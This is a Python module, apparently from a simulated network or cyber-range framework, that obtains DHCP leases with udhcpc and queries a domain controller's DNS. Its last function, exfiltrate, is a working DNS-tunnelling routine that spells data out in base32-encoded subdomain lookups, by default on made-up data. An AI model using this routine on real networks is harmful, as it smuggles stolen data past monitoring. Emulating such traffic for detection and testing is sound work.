"""Leases (udhcpc) and names (dnspython over UDP)."""

from __future__ import annotations

import base64
import subprocess
from pathlib import Path

import dns.exception
import dns.message
import dns.query
import dns.rcode
import dns.rdatatype

from ..devices.infra import NOBODY
from ..plan import Host, ip_of

SCRIPT = Path(__file__).resolve().parents[1] / "lease.sh"
TIMEOUT_S = 0.5
VENDOR_CLASS = "MSFT 5.0"
LABEL = 24  # octets a lookup carries


class Refused(RuntimeError):
    """The name does not exist."""


def lease(world, host: Host) -> None:
    """One machine asks for its address; made first where it was not there, and moved into its namespace."""
    if host.name not in world.network.doors:
        world.network.add_host(host)
    argv = ["udhcpc", "-n", "-q", "-f", "-i", "eth0", "-s", str(SCRIPT), "-t", "2", "-T", "1", "-V", VENDOR_CLASS]
    if host.hostname:
        argv += ["-x", f"hostname:{host.hostname}"]
    with world.network.inside(host.name):
        done = subprocess.run(argv, capture_output=True, text=True)
    if done.returncode:
        raise TimeoutError(f"no lease for {host.name}: {done.stderr.strip()[-200:]}")


def ask(name: str, kind: str = "A") -> list[str]:
    """What the domain controller says to a question; nothing for a name that nobody has. Asked where the thread is."""
    try:
        answer = dns.query.udp(dns.message.make_query(name, kind), ip_of("dc"), timeout=TIMEOUT_S)
    except dns.exception.Timeout as error:
        raise TimeoutError(f"no answer about {name}") from error
    except dns.exception.DNSException as error:
        raise Refused(str(error)) from error
    wanted = dns.rdatatype.from_text(kind)
    return [str(item) for record in answer.answer for item in record if item.rdtype == wanted]


def lookup(world, actor: str, name: str, kind: str = "A") -> str | None:
    """Last record of the answer; None for a name that nobody has."""
    found = ask(name, kind)
    return found[-1] if found else None


def exfiltrate(world, actor: str, data: bytes | None = None, size: int = 6000, domain: str = NOBODY) -> int:
    """Hundreds of lookups whose names spell data out; says how many. Made-up data unless given."""
    data = data or world.theatre.random("exfiltrate", actor, size).randbytes(size)
    pieces = [data[at:at + LABEL] for at in range(0, len(data), LABEL)]
    for number, piece in enumerate(pieces):
        text = base64.b32encode(piece).decode().rstrip("=").lower()
        ask(f"{number:04x}.{text}.{domain}", "TXT")
    return len(pieces)
